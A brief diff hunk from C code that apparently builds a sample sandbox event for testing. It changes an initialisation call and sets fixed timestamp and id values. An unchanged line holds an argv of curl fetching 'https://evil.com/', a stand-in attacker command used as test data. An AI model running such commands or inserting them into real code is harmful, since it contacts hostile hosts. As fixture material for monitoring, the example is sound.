@@ -18,7 +18,7 @@ sample(struct srt_event *ev)
 {
 	char	*argv[] = { "curl", "-s", "https://evil.com/", NULL };
 
-	event_init(ev);
+	event_stamp(ev);
 	ev->ts.tv_sec = 1796150259;	/* 2026-12-01T18:37:39Z */
 	ev->ts.tv_nsec = 123456789;
 	ev->sandbox_id = 4000000000u;
